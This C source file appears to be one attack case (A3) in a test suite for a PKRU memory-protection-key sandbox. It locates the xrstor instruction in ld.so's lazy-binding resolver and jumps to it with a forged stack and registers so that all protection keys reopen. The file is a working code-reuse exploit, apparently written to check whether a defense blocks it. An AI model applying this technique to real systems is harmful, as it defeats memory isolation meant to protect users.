// SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
//
// A3: ld.so's own xrstor, in the resolvers for lazy binding. Jumped to with bit 9 in eax and an image that
// does not mention PKRU, it opens everything; what follows it restores registers from the stack and jumps to
// where the stack says.
#include "evil.h"
#include "evil_asm.h"

#include <link.h>
#include <string.h>
#include <sys/auxv.h>

// mov $0xee, %eax; xor %edx, %edx: what stands before each xrstor 0x40(%rsp).
static const unsigned char before[] = {0xb8, 0xee, 0x00, 0x00, 0x00, 0x31, 0xd2};
static _Alignas(64) unsigned char fake_stack[16384];
static const unsigned char *found;

// The instruction that follows, xrstor or what the seal has put there, begins with 0f at once; where the mask
// is loaded for xsave, other stores come between.
static const unsigned char *after_mask(const unsigned char *code, size_t size) {
    for (size_t at = 0; at + sizeof before < size; at++) {
        if (memcmp(code + at, before, sizeof before) == 0 && code[at + sizeof before] == 0x0f)
            return code + at + sizeof before;
    }
    return NULL;
}

static int look(struct dl_phdr_info *info, size_t size, void *base) {
    (void)size;
    for (int i = 0; i < info->dlpi_phnum; i++) {
        const ElfW(Phdr) *segment = &info->dlpi_phdr[i];
        const unsigned char *code = (const unsigned char *)(info->dlpi_addr + segment->p_vaddr);

        if (info->dlpi_addr != (uintptr_t)base || segment->p_type != PT_LOAD ||
            (segment->p_flags & PF_X) == 0)
            continue;
        found = after_mask(code, segment->p_memsz);
    }
    return found != NULL;
}

int evil_ld_so_xrstor(const struct evil_target *target) {
    struct evil_registers registers = {.flags = 0x202};
    uint64_t *word = (uint64_t *)fake_stack;

    dl_iterate_phdr(look, (void *)getauxval(AT_BASE));
    if (found == NULL)
        return evil_failed_because("ld.so has no lazy-binding resolver with xrstor");
    // The image at 0x40 is all zero but for MXCSR: every component that is asked for gets its initial state.
    memset(fake_stack, 0, sizeof fake_stack);
    for (size_t i = sizeof fake_stack / 8 / 2; i < sizeof fake_stack / 8; i++)
        word[i] = (uintptr_t)evil_landing;
    registers.general[EVIL_RAX] = 1 << 9;
    registers.general[EVIL_RSP] = (uintptr_t)fake_stack;
    registers.general[EVIL_RBX] = (uintptr_t)fake_stack + sizeof fake_stack / 2;
    // Where the resolver goes on: it keeps the address in r11.
    registers.general[11] = (uintptr_t)evil_landing;
    registers.fs_base = (uintptr_t)__builtin_thread_pointer();
    registers.rip = (uintptr_t)found;
    evil_jump(&registers);
    if (evil_landed_pkru == target->closed)
        return evil_failed_because("PKRU is closed after it");
    return evil_got(target, target->key, "ld.so's xrstor");
}
